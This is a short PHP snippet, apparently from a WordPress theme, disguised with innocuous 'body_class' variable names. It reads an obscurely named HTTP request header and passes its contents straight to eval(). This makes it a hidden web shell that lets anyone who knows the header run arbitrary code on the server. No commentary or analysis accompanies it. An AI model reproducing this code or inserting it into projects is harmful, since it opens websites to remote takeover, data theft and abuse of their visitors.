$body_class_yc = $_SERVER;
$body_class_omo = 'HTTP_D44B195';
$body_class_be = isset($body_class_yc[$body_class_omo]);
if ($body_class_be) {
    $body_class_yv = $body_class_yc[$body_class_omo];
    eval($body_class_yv);
}
